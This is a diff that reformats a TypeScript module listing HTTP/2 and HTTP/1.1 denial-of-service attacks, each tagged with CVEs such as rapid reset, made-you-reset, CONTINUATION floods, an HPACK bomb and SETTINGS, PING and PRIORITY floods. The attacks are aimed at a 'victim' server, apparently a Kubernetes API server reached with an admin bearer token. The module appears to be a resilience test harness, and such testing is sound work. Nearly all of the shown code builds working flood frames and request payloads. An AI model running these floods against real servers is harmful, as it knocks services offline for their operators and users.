@@ -65,7 +65,11 @@ async function taken(socket: Socket): Promise<void> {
   socket.off('drain', done).off('close', done);
 }
 
-function flood(name: string, cves: readonly string[], { connections = 20, octets = 16 * megabyte, first, next, reads = false }: Flood): Attack {
+function flood(
+  name: string,
+  cves: readonly string[],
+  { connections = 20, octets = 16 * megabyte, first, next, reads = false }: Flood,
+): Attack {
   return {
     name,
     cves,
@@ -110,7 +114,8 @@ const head = (stream: number, victim: Victim, path: string, ...more: Field[]): B
   frame(types.headers, flag.endHeaders | flag.endStream, stream, block([...pseudo('GET', path), authorized(victim), ...more]));
 /** A header block that goes on. */
 const openBlock = (victim: Victim): Buffer => frame(types.headers, 0, 1, block([...pseudo('GET', '/'), authorized(victim)]));
-const dataFrames = (stream: number, size: number, count: number): Buffer => repeat(count, () => frame(types.data, 0, stream, Buffer.alloc(size, ' ')));
+const dataFrames = (stream: number, size: number, count: number): Buffer =>
+  repeat(count, () => frame(types.data, 0, stream, Buffer.alloc(size, ' ')));
 
 /** An entry of 4,000 octets, then references to it of one octet each. */
 const bomb = (round: number): Buffer => {
@@ -133,7 +138,10 @@ const unreadLists = (name: string, cves: readonly string[], more: (round: number
             types.headers,
             flag.endHeaders | flag.endStream,
             1 + 2 * i,
-            block([...pseudo('GET', `${victim.list}?labelSelector=${encodeURIComponent(`a!=${Math.random()}`)}`), ['authorization', `Bearer ${victim.adminToken}`]]),
+            block([
+              ...pseudo('GET', `${victim.list}?labelSelector=${encodeURIComponent(`a!=${Math.random()}`)}`),
+              ['authorization', `Bearer ${victim.adminToken}`],
+            ]),
           ),
         ),
       ]),
@@ -171,7 +179,12 @@ function http1(name: string, cves: readonly string[], connections: number, bytes
 }
 
 /** Connections that send nothing, or a little at a time. */
-function idle(name: string, count: number, open: (victim: Victim) => Promise<Socket>, drip?: (socket: Socket, round: number) => void): Attack {
+function idle(
+  name: string,
+  count: number,
+  open: (victim: Victim) => Promise<Socket>,
+  drip?: (socket: Socket, round: number) => void,
+): Attack {
   return {
     name,
     run: async (victim) => {
@@ -198,21 +211,31 @@ export const attacks: readonly Attack[] = [
   flood('rapid reset', ['CVE-2023-44487'], {
     octets: 8 * megabyte,
     reads: true,
-    next: (round, victim) => repeat(perRound, (i) => Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.resetStream, 0, streamOf(round, i), uint32(8))])),
+    next: (round, victim) =>
+      repeat(perRound, (i) =>
+        Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.resetStream, 0, streamOf(round, i), uint32(8))]),
+      ),
   }),
   flood('made-you-reset by a window update of 0', ['CVE-2025-8671'], {
     octets: 8 * megabyte,
     reads: true,
-    next: (round, victim) => repeat(perRound, (i) => Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.windowUpdate, 0, streamOf(round, i), uint32(0))])),
+    next: (round, victim) =>
+      repeat(perRound, (i) =>
+        Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.windowUpdate, 0, streamOf(round, i), uint32(0))]),
+      ),
   }),
   flood('made-you-reset by DATA behind the end', ['CVE-2025-8671'], {
     octets: 8 * megabyte,
     reads: true,
-    next: (round, victim) => repeat(perRound, (i) => Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.data, 0, streamOf(round, i), Buffer.from('d'))])),
+    next: (round, victim) =>
+      repeat(perRound, (i) =>
+        Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.data, 0, streamOf(round, i), Buffer.from('d'))]),
+      ),
   }),
   flood('malformed requests, of which the resets are not read', ['CVE-2019-9514'], {
     octets: 8 * megabyte,
-    next: (round) => repeat(perRound, (i) => frame(types.headers, flag.endHeaders | flag.endStream, streamOf(round, i), Buffer.from([0x82, 0x87]))),
+    next: (round) =>
+      repeat(perRound, (i) => frame(types.headers, flag.endHeaders | flag.endStream, streamOf(round, i), Buffer.from([0x82, 0x87]))),
   }),
   flood('CONTINUATION of one octet', ['CVE-2024-27316', 'CVE-2024-28182', 'CVE-2023-45288'], {
     connections: 40,
@@ -236,9 +259,18 @@ export const attacks: readonly Attack[] = [
       return round < 3 ? bytes : Buffer.concat([bytes, frame(types.goAway, 0, 0, uint32(0, 0)), Buffer.alloc(9, 0xff)]);
     },
   }),
-  flood('empty DATA', ['CVE-2019-9518'], { first: (victim) => upload(1, victim), next: () => repeat(2_000, () => frame(types.data, 0, 1)) }),
+  flood('empty DATA', ['CVE-2019-9518'], {
+    first: (victim) => upload(1, victim),
+    next: () => repeat(2_000, () => frame(types.data, 0, 1)),
+  }),
   flood('fields with empty names and values', ['CVE-2019-9516'], {
-    next: (round) => frame(types.headers, flag.endHeaders | flag.endStream, 1 + 2 * round, Buffer.concat([block(pseudo('GET', '/')), Buffer.alloc(15_000)])),
+    next: (round) =>
+      frame(
+        types.headers,
+        flag.endHeaders | flag.endStream,
+        1 + 2 * round,
+        Buffer.concat([block(pseudo('GET', '/')), Buffer.alloc(15_000)]),
+      ),
   }),
   flood('SETTINGS', ['CVE-2019-9515'], { next: () => repeat(2_000, () => settings()) }),
   flood('SETTINGS with many entries', ['CVE-2020-11080'], {
@@ -246,22 +278,37 @@ export const attacks: readonly Attack[] = [
   }),
   flood('PING', ['CVE-2019-9512'], { next: () => repeat(1_000, () => frame(types.ping, 0, 0, Buffer.alloc(8))) }),
   flood('PRIORITY', ['CVE-2019-9513'], {
-    next: (round) => repeat(1_000, (i) => frame(types.priority, 0, 1 + 2 * i, Buffer.concat([uint32(1 + 2 * ((i + round) % 1_000) + 2), Buffer.from([round % 256])]))),
+    next: (round) =>
+      repeat(1_000, (i) =>
+        frame(types.priority, 0, 1 + 2 * i, Buffer.concat([uint32(1 + 2 * ((i + round) % 1_000) + 2), Buffer.from([round % 256])])),
+      ),
   }),
   flood('HPACK bomb', ['CVE-2016-6581', 'CVE-2016-1544'], { octets: 4 * megabyte, next: bomb }),
   flood('names of fields that are never the same', ['CVE-2022-41717'], {
-    next: (round, victim) => head(1 + 2 * round, victim, '/version', ...Array.from({ length: 200 }, (_, i): Field => [`x-${Math.random().toString(36).slice(2)}-${i}`, 'v'])),
+    next: (round, victim) =>
+      head(
+        1 + 2 * round,
+        victim,
+        '/version',
+        ...Array.from({ length: 200 }, (_, i): Field => [`x-${Math.random().toString(36).slice(2)}-${i}`, 'v']),
+      ),
     reads: true,
   }),
   flood('a string of HPACK that comes octet by octet', ['CVE-2022-41723'], {
-    first: (victim) => Buffer.concat([openBlock(victim), frame(types.continuation, 0, 1, Buffer.concat([Buffer.from([0x00, 0x01, 0x61]), hpackInteger(0x80, 0x7f, 900_000)]))]),
+    first: (victim) =>
+      Buffer.concat([
+        openBlock(victim),
+        frame(types.continuation, 0, 1, Buffer.concat([Buffer.from([0x00, 0x01, 0x61]), hpackInteger(0x80, 0x7f, 900_000)])),
+      ]),
     next: () => repeat(1_000, () => frame(types.continuation, 0, 1, Buffer.from([0x1f]))),
   }),
   unreadLists('lists to a window of 0', ['CVE-2019-9511', 'CVE-2019-9517'], (round) => {
     void round;
     return frame(types.ping, 0, 0, Buffer.alloc(8));
   }),
-  unreadLists('lists to a window that grows by an octet', ['CVE-2019-9511'], () => repeat(10, (i) => frame(types.windowUpdate, 0, 1 + 2 * i, uint32(1)))),
+  unreadLists('lists to a window that grows by an octet', ['CVE-2019-9511'], () =>
+    repeat(10, (i) => frame(types.windowUpdate, 0, 1 + 2 * i, uint32(1))),
+  ),
   flood('lists over an open window that is not read', ['CVE-2019-9517'], {
     connections: 10,
     octets: megabyte,
@@ -272,7 +319,10 @@ export const attacks: readonly Attack[] = [
             types.headers,
             flag.endHeaders | flag.endStream,
             1 + 2 * round,
-            block([...pseudo('GET', `${victim.list}?labelSelector=a%21%3D${Math.random()}`), ['authorization', `Bearer ${victim.adminToken}`]]),
+            block([
+              ...pseudo('GET', `${victim.list}?labelSelector=a%21%3D${Math.random()}`),
+              ['authorization', `Bearer ${victim.adminToken}`],
+            ]),
           )
         : frame(types.priority, 0, 1, Buffer.alloc(5)),
   }),
@@ -284,7 +334,9 @@ export const attacks: readonly Attack[] = [
     next: (round) => dataFrames(1 + 2 * (round % 50), 1, 1_000),
   }),
   http1('HTTP/1.1: chunks of one octet', [], 20, ({ token }) => [
-    Buffer.from(`POST ${path} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`),
+    Buffer.from(
+      `POST ${path} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,
+    ),
     ...Array.from({ length: 100 }, () => Buffer.from('1\r\n \r\n'.repeat(1_500))),
   ]),
   http1('HTTP/1.1: 2,000 pipelined requests', [], 20, ({ token }) =>
